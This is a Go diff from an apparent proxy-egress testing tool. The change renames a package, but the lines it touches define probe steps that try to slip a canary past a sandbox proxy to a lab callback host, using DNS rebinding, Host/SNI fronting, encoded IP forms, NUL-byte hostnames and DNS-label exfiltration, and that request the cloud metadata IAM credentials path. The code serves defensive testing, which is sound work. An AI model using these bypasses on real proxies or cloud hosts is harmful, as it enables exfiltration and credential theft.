@@ -2,7 +2,7 @@ package steps
 
 import (
 	"github.com/gatehouse-dev/gatehouse/lab"
-	"github.com/gatehouse-dev/gatehouse/probe"
+	"github.com/gatehouse-dev/gatehouse/probe/wire"
 )
 
 // Attempts through the proxy the sandbox's environment names (probe
@@ -17,27 +17,27 @@ var (
 	metaPath = "/latest/meta-data/iam/security-credentials/gatehouse-role"
 )
 
-func viaHTTP(url string) probe.Step {
-	return probe.Step{Kind: probe.KindProxy, Via: probe.ViaHTTP, Method: "GET", Target: url}
+func viaHTTP(url string) wire.Step {
+	return wire.Step{Kind: wire.KindProxy, Via: wire.ViaHTTP, Method: "GET", Target: url}
 }
 
-func tunnel(via, target, inner string) probe.Step {
-	return probe.Step{Kind: probe.KindProxy, Via: via, Method: "GET", Target: target, Inner: inner}
+func tunnel(via, target, inner string) wire.Step {
+	return wire.Step{Kind: wire.KindProxy, Via: via, Method: "GET", Target: target, Inner: inner}
 }
 
 // proxyCallback: "reach the callback server" through the proxy.
 var proxyCallback = family{
 	// A forbidden name asked plainly: the baseline every proxy must refuse.
-	"proxy-http":         func(c string) probe.Step { return viaHTTP("http://" + cbName + cbPath(c)) },
-	"proxy-connect-name": func(c string) probe.Step { return tunnel(probe.ViaConnect, cbName+":80", "http://"+cbName+cbPath(c)) },
-	"proxy-socks-name":   func(c string) probe.Step { return tunnel(probe.ViaSOCKS5, cbName+":80", "http://"+cbName+cbPath(c)) },
-	"proxy-socks-ip": func(c string) probe.Step {
-		return tunnel(probe.ViaSOCKS5, lab.CallbackV4+":80", "http://"+lab.CallbackV4+cbPath(c))
+	"proxy-http":         func(c string) wire.Step { return viaHTTP("http://" + cbName + cbPath(c)) },
+	"proxy-connect-name": func(c string) wire.Step { return tunnel(wire.ViaConnect, cbName+":80", "http://"+cbName+cbPath(c)) },
+	"proxy-socks-name":   func(c string) wire.Step { return tunnel(wire.ViaSOCKS5, cbName+":80", "http://"+cbName+cbPath(c)) },
+	"proxy-socks-ip": func(c string) wire.Step {
+		return tunnel(wire.ViaSOCKS5, lab.CallbackV4+":80", "http://"+lab.CallbackV4+cbPath(c))
 	},
 	// An allowed name whose second answer is the callback: a proxy that
 	// checks one lookup and connects after another is sent there.
-	"proxy-rebind": func(c string) probe.Step {
-		s := tunnel(probe.ViaConnect, lab.RebindLabName+":80", "http://"+lab.RebindLabName+cbPath(c))
+	"proxy-rebind": func(c string) wire.Step {
+		s := tunnel(wire.ViaConnect, lab.RebindLabName+":80", "http://"+lab.RebindLabName+cbPath(c))
 		s.Again = true // the first lookup answers the allowed address, later ones the forbidden
 		return s
 	},
@@ -46,29 +46,29 @@ var proxyCallback = family{
 	// the allowed name carrying the callback's Host; an absolute-form
 	// request for the callback. Only a proxy that routes by what is inside
 	// delivers them to the callback.
-	"proxy-front-host": func(c string) probe.Step {
-		s := tunnel(probe.ViaConnect, infName+":80", "http://"+infName+cbPath(c))
+	"proxy-front-host": func(c string) wire.Step {
+		s := tunnel(wire.ViaConnect, infName+":80", "http://"+infName+cbPath(c))
 		s.Headers = map[string]string{"Host": cbName}
 		return s
 	},
-	"proxy-front-sni": func(c string) probe.Step {
-		s := tunnel(probe.ViaConnect, infName+":443", "https://"+infName+cbPath(c))
+	"proxy-front-sni": func(c string) wire.Step {
+		s := tunnel(wire.ViaConnect, infName+":443", "https://"+infName+cbPath(c))
 		s.SNI = cbName
 		return s
 	},
-	"proxy-front-tls-host": func(c string) probe.Step {
-		s := tunnel(probe.ViaConnect, infName+":443", "https://"+infName+cbPath(c))
+	"proxy-front-tls-host": func(c string) wire.Step {
+		s := tunnel(wire.ViaConnect, infName+":443", "https://"+infName+cbPath(c))
 		s.Headers = map[string]string{"Host": cbName}
 		return s
 	},
-	"proxy-absolute-in-tunnel": func(c string) probe.Step {
-		s := tunnel(probe.ViaConnect, infName+":80", "http://"+cbName+cbPath(c))
+	"proxy-absolute-in-tunnel": func(c string) wire.Step {
+		s := tunnel(wire.ViaConnect, infName+":80", "http://"+cbName+cbPath(c))
 		s.Absolute = true
 		return s
 	},
 	// The allowed host answers 302 to the callback; the probe follows
 	// through the proxy.
-	"proxy-redirect": func(c string) probe.Step {
+	"proxy-redirect": func(c string) wire.Step {
 		s := viaHTTP("http://" + infName + "/redirect?to=http://" + cbName + cbPath(c))
 		s.Follow = true
 		return s
@@ -76,30 +76,30 @@ var proxyCallback = family{
 	// The callback's address in forms getaddrinfo accepts and string
 	// matching does not: decimal, hex, IPv4-mapped IPv6, a two-part short
 	// form (0xcb.0x710a is 203.0.113.10).
-	"proxy-ip-decimal": func(c string) probe.Step { return viaHTTP("http://3405803786" + cbPath(c)) },
-	"proxy-ip-hex":     func(c string) probe.Step { return viaHTTP("http://0xcb00710a" + cbPath(c)) },
-	"proxy-ip-mapped":  func(c string) probe.Step { return viaHTTP("http://[::ffff:" + lab.CallbackV4 + "]" + cbPath(c)) },
-	"proxy-ip-short":   func(c string) probe.Step { return viaHTTP("http://0xcb.0x710a" + cbPath(c)) },
+	"proxy-ip-decimal": func(c string) wire.Step { return viaHTTP("http://3405803786" + cbPath(c)) },
+	"proxy-ip-hex":     func(c string) wire.Step { return viaHTTP("http://0xcb00710a" + cbPath(c)) },
+	"proxy-ip-mapped":  func(c string) wire.Step { return viaHTTP("http://[::ffff:" + lab.CallbackV4 + "]" + cbPath(c)) },
+	"proxy-ip-short":   func(c string) wire.Step { return viaHTTP("http://0xcb.0x710a" + cbPath(c)) },
 	// A NUL byte ends the name for a C resolver but not for a suffix check.
-	"proxy-nul-connect": func(c string) probe.Step {
-		return tunnel(probe.ViaConnect, cbName+"\x00."+infName+":80", "http://"+cbName+cbPath(c))
+	"proxy-nul-connect": func(c string) wire.Step {
+		return tunnel(wire.ViaConnect, cbName+"\x00."+infName+":80", "http://"+cbName+cbPath(c))
 	},
-	"proxy-nul-socks": func(c string) probe.Step {
-		return tunnel(probe.ViaSOCKS5, cbName+"\x00."+infName+":80", "http://"+cbName+cbPath(c))
+	"proxy-nul-socks": func(c string) wire.Step {
+		return tunnel(wire.ViaSOCKS5, cbName+"\x00."+infName+":80", "http://"+cbName+cbPath(c))
 	},
 }
 
 // proxyDNS: labels under an allowed wildcard carry the canary; the proxy's
 // own resolver does the lookup, and the lab's authority records it.
 var proxyDNS = family{
-	"proxy-label-http": func(c string) probe.Step { return viaHTTP("http://" + c + ".x." + infName + "/") },
-	"proxy-label-connect": func(c string) probe.Step {
-		s := tunnel(probe.ViaConnect, c+".x."+infName+":80", "")
+	"proxy-label-http": func(c string) wire.Step { return viaHTTP("http://" + c + ".x." + infName + "/") },
+	"proxy-label-connect": func(c string) wire.Step {
+		s := tunnel(wire.ViaConnect, c+".x."+infName+":80", "")
 		s.Payload = "GATEHOUSE " + c + "\r\n\r\n"
 		return s
 	},
-	"proxy-label-socks": func(c string) probe.Step {
-		s := tunnel(probe.ViaSOCKS5, c+".x."+infName+":80", "")
+	"proxy-label-socks": func(c string) wire.Step {
+		s := tunnel(wire.ViaSOCKS5, c+".x."+infName+":80", "")
 		s.Payload = "GATEHOUSE " + c + "\r\n\r\n"
 		return s
 	},
@@ -108,11 +108,11 @@ var proxyDNS = family{
 // proxyMetadata: cloud metadata as the proxied URL, by address, by an
 // allowlisted-looking name, in decimal, and by rebinding.
 var proxyMetadata = family{
-	"proxy-metadata":         func(c string) probe.Step { return viaHTTP("http://" + lab.MetadataV4 + metaPath) },
-	"proxy-metadata-name":    func(c string) probe.Step { return viaHTTP("http://" + lab.MetadataLabName + metaPath) },
-	"proxy-metadata-decimal": func(c string) probe.Step { return viaHTTP("http://2852039166" + metaPath) },
-	"proxy-metadata-rebind": func(c string) probe.Step {
-		s := tunnel(probe.ViaConnect, lab.RebindMetadataLabName+":80", "http://"+lab.RebindMetadataLabName+metaPath)
+	"proxy-metadata":         func(c string) wire.Step { return viaHTTP("http://" + lab.MetadataV4 + metaPath) },
+	"proxy-metadata-name":    func(c string) wire.Step { return viaHTTP("http://" + lab.MetadataLabName + metaPath) },
+	"proxy-metadata-decimal": func(c string) wire.Step { return viaHTTP("http://2852039166" + metaPath) },
+	"proxy-metadata-rebind": func(c string) wire.Step {
+		s := tunnel(wire.ViaConnect, lab.RebindMetadataLabName+":80", "http://"+lab.RebindMetadataLabName+metaPath)
 		s.Again = true
 		return s
 	},
